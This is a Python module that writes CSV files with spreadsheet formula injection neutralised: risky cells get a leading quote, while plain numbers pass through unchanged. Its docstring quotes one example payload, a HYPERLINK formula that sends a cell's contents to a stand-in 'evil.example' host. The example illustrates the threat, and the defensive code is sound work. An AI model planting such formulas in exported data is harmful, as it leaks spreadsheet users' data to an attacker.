"""CSV files a person may open in a spreadsheet, safe from formula injection (docs/activation.md).

A spreadsheet runs a cell that starts with `=`, `+`, `-`, `@`, tab or CR as a formula, so a CRM
first name `=HYPERLINK("http://evil.example/?d="&A2,"Mary")` would run on the marketer's machine;
so may one that starts with whitespace and then such a character (` =HYPERLINK(...)`), as an
importer that trims cells reads it.
OWASP's advice, applied here: such a cell is written with a single quote in front and in double
quotes (`"'=HYPERLINK(..."`), which a spreadsheet shows as text. A plain number (`-5`, `+49`,
`1e-3`) is data, not a formula, and is written as it is: a spreadsheet reads it as the number it
is, and numeric columns stay numeric.

Files read by machines (the Salesforce Bulk API upsert) keep raw values: `formula_cells` counts
what a spreadsheet would run, so the build summary can flag them.
"""

from __future__ import annotations

import math
import re
from collections.abc import Iterable

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
_NEEDS_QUOTES = re.compile(r'[,"\r\n]')
# Cells certainly written as they are (RE2, for Arrow): see `_odd`.
_UNQUOTED_CELL = r'^[^,"\r\n]*$'
_PLAIN_CELL = r'^([A-Za-z0-9][^,"\r\n]*)?$'


def _text(value: object) -> str:
    """A cell's text as pandas' to_csv writes it: missing values (None, NaN, NA, NaT) empty."""
    if value is None or value is pd.NA or value is pd.NaT:
        return ""
    if isinstance(value, float) and math.isnan(value):
        return ""
    return value if isinstance(value, str) else str(value)


def is_formula(value: object) -> bool:
    """Whether a spreadsheet would run the cell: its first character, or its first after leading
    whitespace (an importer may trim ` =1+1` to a formula), is a formula character, and it is not a
    plain number (spaces around it allowed)."""
    text = _text(value)
    starts = text.startswith(FORMULA_STARTS) or text.lstrip().startswith(FORMULA_STARTS)
    return starts and not _PLAIN_NUMBER.fullmatch(text.strip(" "))


def _quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def cell(value: object, neutralise: bool = True) -> str:
    """One CSV field: quoted when it holds a comma, quote or line break; a formula neutralised
    (a single quote in front, in quotes) unless `neutralise` is False."""
    text = _text(value)
    if neutralise and is_formula(text):
        return _quoted("'" + text)
    return _quoted(text) if _NEEDS_QUOTES.search(text) else text


def _texts(values: pd.Series) -> pa.Array:
    """A column's cells as `_text` gives them, as Arrow strings (a text column is not read value by
    value: a LinkedIn contact list is 668k rows at the large scale)."""
    if isinstance(values.dtype, pd.StringDtype) or pd.api.types.infer_dtype(values, skipna=True) in (
        "string",
        "empty",
    ):
        try:
            return pc.fill_null(pa.array(values, type=pa.large_string(), from_pandas=True), "")
        except (pa.ArrowInvalid, pa.ArrowTypeError):  # a NaN pandas skipped but Arrow refuses (float32)
            pass
    return pa.array([_text(v) for v in values], type=pa.large_string())


def _odd(texts: pa.Array, neutralise: bool) -> np.ndarray:
    """Positions of the cells not certainly written as they are. A plain cell has no comma, quote
    or line break and, when formulas are neutralised, is empty or starts with an ASCII letter or
    digit (so neither a formula character nor whitespace before one). The others go through `cell`
    (or `is_formula`), the one definition."""
    pattern = _PLAIN_CELL if neutralise else _UNQUOTED_CELL
    return np.flatnonzero(~pc.match_substring_regex(texts, pattern).to_numpy(zero_copy_only=False))


def _cells(values: pd.Series, neutralise: bool) -> pa.Array:
    texts = _texts(values)
    odd = _odd(texts, neutralise)
    if not len(odd):
        return texts
    fixed = texts.to_numpy(zero_copy_only=False).astype(object)
    fixed[odd] = [cell(t, neutralise) for t in fixed[odd]]
    return pa.array(fixed, type=pa.large_string())


def csv_lines(frame: pd.DataFrame, neutralise: bool = True) -> tuple[bytes, list[bytes]]:
    """The header line and one line per row (each ending in `\\n`), so a file can be split
    between rows even when a value holds a line break."""
    header = ",".join(cell(c, neutralise) for c in frame.columns) + "\n"
    if not len(frame.columns):
        return header.encode(), [b"\n"] * len(frame)
    columns = [_cells(frame.iloc[:, i], neutralise) for i in range(frame.shape[1])]
    text = pa.large_string()
    lines = pc.binary_join_element_wise(*columns, pa.scalar(",", text))
    lines = pc.binary_join_element_wise(lines, pa.scalar("", text), pa.scalar("\n", text))
    return header.encode(), lines.cast(pa.large_binary()).to_pylist()


def to_csv(frame: pd.DataFrame, neutralise: bool = True) -> bytes:
    """The frame as CSV (header, `\\n` line ends, minimal quoting), formulas neutralised."""
    header, rows = csv_lines(frame, neutralise)
    return header + b"".join(rows)


def formula_cells(frame: pd.DataFrame, columns: Iterable[str] | None = None) -> int:
    """How many cells (of `columns`, default all) a spreadsheet would run as formulas."""
    chosen = set(frame.columns if columns is None else columns)
    count = 0
    for i in (i for i, c in enumerate(frame.columns) if c in chosen):  # by position: names may repeat
        values = frame.iloc[:, i]
        try:
            texts = _texts(values)
        except UnicodeEncodeError:  # a lone surrogate: no Arrow string, so value by value
            count += sum(is_formula(v) for v in values)
            continue
        count += sum(is_formula(t) for t in texts.take(pa.array(_odd(texts, neutralise=True))).to_pylist())
    return count
